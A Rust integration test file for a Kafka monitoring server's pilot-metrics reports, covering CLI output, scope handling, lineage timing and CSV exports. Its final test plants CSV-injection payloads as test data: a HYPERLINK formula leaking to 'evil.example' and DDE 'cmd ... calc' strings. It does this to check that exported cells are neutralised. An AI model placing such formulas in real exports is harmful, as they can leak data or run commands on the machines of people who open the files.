    assert_eq!(r.status, StatusCode::NOT_FOUND, "removed: {}", r.body);
    assert_eq!(kept().await, had, "its history is kept");
    // Its review items are gone from the inbox and their pages with it.
    let r = t.api(Method::GET, &item_path, &at, None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.body);
    let r = t
        .api(Method::GET, "/api/v1/review-items?scope=all", &at, None)
        .await;
    assert_eq!(r.json()["total"], 0, "{}", r.body);
    assert_eq!(figures().await, before, "the pilot's figures are unchanged");
}

/// The text of `html` from `start` to the first `end` after it.
fn between<'a>(html: &'a str, start: &str, end: &str) -> &'a str {
    let from = html
        .find(start)
        .unwrap_or_else(|| panic!("no {start} in the page: {html}"));
    let rest = &html[from..];
    &rest[..rest.find(end).unwrap_or(rest.len())]
}

#[sqlx::test(migrator = "streamkeeper_server::platform::db::MIGRATOR")]
async fn the_cli_prints_the_day_30_table(pool: PgPool) {
    let t = TestApp::new(pool.clone()).await;
    let (local, _, team) = world(&pool).await;
    raise(
        &pool,
        local,
        team,
        group_key("lag"),
        "STOP",
        chrono::Duration::minutes(9),
        json!({}),
    )
    .await;
    seen(&pool, team).await;
    let start = (Utc::now() - chrono::Duration::days(29))
        .date_naive()
        .to_string();
    let out = streamkeeper(
        &pool,
        &[
            "pilot",
            "set",
            "--scope-kind",
            "clusters",
            "--scope",
            "local",
            "--start",
            &start,
            "--baseline",
            "lag_flagged=2h,the on-call tickets",
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = streamkeeper(&pool, &["pilot"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("(day 30)"), "{text}");
    let lag = text
        .lines()
        .find(|l| l.starts_with("lag_flagged"))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        lag.contains("2 h") && lag.contains("9 min") && lag.contains("0.075"),
        "{lag}"
    );
    assert!(lag.contains("rests on 1 event (fewer than 5)"), "{lag}");
    let actions = t.audit_actions().await;
    assert!(actions.contains(&"pilot.set".to_string()), "{actions:?}");
}

#[sqlx::test(migrator = "streamkeeper_server::platform::db::MIGRATOR")]
async fn a_pilot_on_streams_covers_the_groups_reading_them(pool: PgPool) {
    let t = TestApp::new(pool.clone()).await;
    let (local, elsewhere, team) = world(&pool).await;
    let manager = t.user("meg", &[Role::Manager]).await;
    let mt = t.token(manager).await;
    raise(
        &pool,
        local,
        team,
        group_key("lag"),
        "STOP",
        chrono::Duration::minutes(9),
        json!({}),
    )
    .await;
    raise(
        &pool,
        elsewhere,
        team,
        group_key("lag"),
        "STOP",
        chrono::Duration::hours(5),
        json!({}),
    )
    .await;
    seen(&pool, team).await;
    // Started yesterday: a flag raised 9 min ago is yesterday's just after
    // midnight, and a pilot counts from the start of its first day.
    let started = (Utc::now() - chrono::Duration::days(1)).date_naive();
    let input =
        |scope: &str| json!({"scope_kind": "streams", "scope": [scope], "started_on": started});
    let r = t
        .api(
            Method::PUT,
            "/api/v1/pilot/settings",
            &mt,
            Some(input("orders")),
        )
        .await;
    assert_eq!(
        r.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "a stream names its cluster: {}",
        r.body
    );
    for (scope, events) in [
        ("local/orders", 1),
        ("elsewhere/orders", 1),
        ("local/payments", 0),
    ] {
        let r = t
            .api(
                Method::PUT,
                "/api/v1/pilot/settings",
                &mt,
                Some(input(scope)),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        let r = t.api(Method::GET, "/api/v1/pilot", &mt, None).await;
        let flagged = &r.json()["report"]["table"][0];
        assert_eq!(flagged["now"]["events"], events, "{scope}: {flagged}");
        if scope == "local/orders" {
            let ms = flagged["now"]["p50_ms"].as_i64().expect("ms");
            assert!((9 * 60_000..10 * 60_000).contains(&ms), "{ms}");
        }
    }

    // The day tally follows what decides the scope, not only the pilot's
    // settings: once billing stops reading orders, its flag is no longer
    // the pilot's, and once it reads it again, it is.
    let r = t
        .api(
            Method::PUT,
            "/api/v1/pilot/settings",
            &mt,
            Some(input("local/orders")),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    for (topics, events) in [(vec!["payments"], 0), (vec!["orders"], 1)] {
        sqlx::query("UPDATE consumer_groups SET topics = $2 WHERE cluster_id = $1")
            .bind(local)
            .bind(&topics)
            .execute(&pool)
            .await
            .expect("topics");
        let r = t.api(Method::GET, "/api/v1/pilot", &mt, None).await;
        let flagged = &r.json()["report"]["table"][0];
        assert_eq!(flagged["now"]["events"], events, "{topics:?}: {flagged}");
    }
}

/// A streaming job reading `topic` on the broker at `bootstrap`, as
/// openlineage-python sends its START.
fn reads(run: &str, job: &str, bootstrap: &str, topic: &str) -> Value {
    json!({
        "eventTime": "2026-01-01T00:00:00Z", "eventType": "START",
        "inputs": [{"facets": {}, "inputFacets": {}, "name": topic, "namespace": format!("kafka://{bootstrap}")}],
        "job": {"facets": {}, "name": job, "namespace": "sk-test"},
        "outputs": [{"facets": {}, "name": job, "namespace": "postgres://127.0.0.1:5432", "outputFacets": {}}],
        "producer": "https://github.com/OpenLineage/OpenLineage/tree/1.54.0/client/python",
        "run": {"facets": {}, "runId": run},
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent"
    })
}

/// "Lineage question answered": impact asked → answer shown, and → owners
/// notified, from the questions "notify owners" records, within the
/// pilot's scope (a question about a topic of another domain is not the
/// pilot's).
#[sqlx::test(migrator = "streamkeeper_server::platform::db::MIGRATOR")]
async fn the_pilot_times_lineage_questions_from_asked_to_answered_and_notified(pool: PgPool) {
    use streamkeeper::accounts::token::Scope;
    let t = TestApp::new(pool.clone()).await;
    let admin = t.user("ada", &[Role::Admin]).await;
    let at = t.token(admin).await;
    let manager = t.user("meg", &[Role::Manager]).await;
    let mt = t.token(manager).await;
    let flink = t.user("flink", &[Role::Owner]).await;
    let flink = t.token_with(flink, &[Scope::LineageWrite]).await;
    for (name, bootstrap, domain) in [
        ("local", "127.0.0.1:9092", "payments"),
        ("elsewhere", "127.0.0.1:9093", "ledger"),
    ] {
        let r = t
            .api(
                Method::POST,
                "/api/v1/clusters",
                &at,
                Some(json!({"name": name, "bootstrap": bootstrap})),
            )
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
        sqlx::query("INSERT INTO streams (cluster_id, topic, domain) VALUES ($1, 'orders', $2)")
            .bind(r.json()["id"].as_i64().expect("id"))
            .bind(domain)
            .execute(&pool)
            .await
            .expect("stream");
    }
    let events = json!([
        reads(
            "0194b3a2-7c1e-7000-8000-000000000401",
            "enricher",
            "127.0.0.1:9092",
            "orders"
        ),
        reads(
            "0194b3a2-7c1e-7000-8000-000000000402",
            "auditor",
            "127.0.0.1:9093",
            "orders"
        ),
    ]);
    let r = t
        .api(Method::POST, "/api/v1/lineage/batch", &flink, Some(events))
        .await;
    assert_eq!(r.json()["status"], "success", "{}", r.body);
    let started = (Utc::now() - chrono::Duration::days(2)).date_naive();
    let r = t
        .api(
            Method::PUT,
            "/api/v1/pilot/settings",
            &mt,
            Some(json!({"scope_kind": "domains", "scope": ["payments"], "started_on": started})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let mut asked = Vec::new();
    for cluster in ["local", "elsewhere"] {
        let r = t
            .api(
                Method::POST,
                "/api/v1/lineage/impact/notify",
                &at,
                Some(json!({"topic": "orders", "cluster": cluster})),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        asked.push(r.json()["question"].as_i64().expect("question"));
    }
    let answered: i64 = sqlx::query_scalar(
        // Whole milliseconds, cut as the report cuts them (a cast would round).
        "SELECT floor(extract(epoch FROM answered_at - asked_at) * 1000)::bigint
           FROM lineage_questions WHERE id = $1",
    )
    .bind(asked[0])
    .fetch_one(&pool)
    .await
    .expect("question");

    let r = t.api(Method::GET, "/api/v1/pilot", &mt, None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let report = r.json()["report"].clone();
    let row = |m: &str| -> Value {
        report["table"]
            .as_array()
            .and_then(|t| t.iter().find(|r| r["metric"] == m))
            .cloned()
            .unwrap_or_else(|| panic!("no {m} row: {report}"))
    };
    let answer = row("lineage_answered");
    assert_eq!(
        answer["now"]["events"], 1,
        "only the pilot's topic: {answer}"
    );
    assert_eq!(answer["now"]["p50_ms"], answered, "{answer}");
    assert_eq!(answer["baseline_ms"], 172_800_000);
    // No stream has an owner team: the question reached no owner, which
    // is no owners notified, and is counted as such.
    let told = row("lineage_notified");
    assert_eq!(told["now"]["events"], 0, "{told}");
    assert_eq!(
        report["counts"]["questions_reached_no_owner"], 1,
        "{report}"
    );
    assert_eq!(
        report["weeks"][0]["figures"]["lineage_answered"]["events"],
        1
    );
    let r = t
        .api(Method::GET, "/api/v1/pilot/events.csv", &mt, None)
        .await;
    let lineage: Vec<(String, String, String)> = csv_rows(&r.body)
        .into_iter()
        .map(|e| {
            (
                e["metric"].clone(),
                e["reference"].clone(),
                e["subject"].clone(),
            )
        })
        .collect();
    let q = format!("lineage-question:{}", asked[0]);
    assert_eq!(
        lineage,
        [(
            "lineage_answered".to_string(),
            q.clone(),
            "orders".to_string()
        ),]
    );
}

/// Cells people wrote (a consumer group's name, anyone with Kafka access
/// chooses; baseline notes) reach both CSVs as text, never as formulas:
/// OWASP's leading `'` on a cell starting `=`, `+`, `-` or `@`.
#[sqlx::test(migrator = "streamkeeper_server::platform::db::MIGRATOR")]
async fn csv_cells_that_look_like_formulas_are_neutralised(pool: PgPool) {
    const GROUP: &str = r#"=HYPERLINK("http://evil.example/?leak=","go")"#;
    let t = TestApp::new(pool.clone()).await;
    let (local, _, team) = world(&pool).await;
    sqlx::query("UPDATE consumer_groups SET name = $1 WHERE cluster_id = $2")
        .bind(GROUP)
        .bind(local)
        .execute(&pool)
        .await
        .expect("rename");
    let manager = t.user("meg", &[Role::Manager]).await;
    let mt = t.token(manager).await;
    let notes = [
        ("lag_flagged", "+cmd|' /C calc'!A0"),
        ("change_checked", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("change_reviewed", "-2+3+cmd|' /C calc'!A0"),
        ("lineage_answered", "=1+1"),
    ];
    let baselines: Vec<Value> = notes
        .iter()
        .map(|(m, n)| json!({"metric": m, "ms": 60_000, "note": n}))
        .collect();
    let input = json!({
        "scope_kind": "domains",
        "scope": ["payments"],
        "started_on": (Utc::now() - chrono::Duration::days(2)).date_naive(),
        "baselines": baselines,
    });
    let r = t
        .api(Method::PUT, "/api/v1/pilot/settings", &mt, Some(input))
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    store::fresh(&pool).await.expect("tally");
    let key = FlagKey {
        subject_kind: "group".into(),
        subject: GROUP.into(),
        rule: "lag".into(),
    };
    raise(
        &pool,
        local,
        team,
        key,
        "STOP",
        chrono::Duration::minutes(9),
        json!({}),
    )
    .await;
    seen(&pool, team).await;

    let r = t
        .api(Method::GET, "/api/v1/pilot/table.csv", &mt, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let table = csv_rows(&r.body);
    for (metric, note) in notes {
        let row = table
            .iter()
            .find(|c| c["metric"] == metric)
            .expect("a row per metric");
        assert_eq!(row["baseline_note"], format!("'{note}"), "{row:?}");
    }
    let r = t
        .api(Method::GET, "/api/v1/pilot/events.csv", &mt, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let events = csv_rows(&r.body);
    assert!(!events.is_empty(), "{}", r.body);
    for e in &events {
        for (column, cell) in e {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {cell:?}"
            );
        }
    }
    assert!(
        events
            .iter()
            .any(|e| e.values().any(|c| *c == format!("'{GROUP}"))),
        "{}",
        r.body
    );
}
